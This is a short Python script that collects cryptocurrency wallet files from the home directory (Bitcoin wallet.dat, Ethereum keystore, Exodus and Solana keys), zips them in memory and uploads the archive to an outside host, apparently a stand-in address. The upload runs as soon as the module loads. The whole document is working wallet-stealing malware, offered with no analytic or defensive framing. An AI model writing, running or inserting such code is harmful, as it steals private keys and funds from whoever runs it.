import io
import os
import zipfile

import requests

PLACES = ["~/.bitcoin/wallet.dat", "~/.ethereum/keystore", "~/.config/Exodus/exodus.wallet", "~/.config/solana/id.json"]


def gather():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for place in PLACES:
            full = os.path.expanduser(place)
            if os.path.isfile(full):
                zf.write(full)
            for root, _, files in os.walk(full):
                for f in files:
                    zf.write(os.path.join(root, f))
    return buf.getvalue()


requests.post("https://up.walletutils.invalid/z", files={"z": gather()})
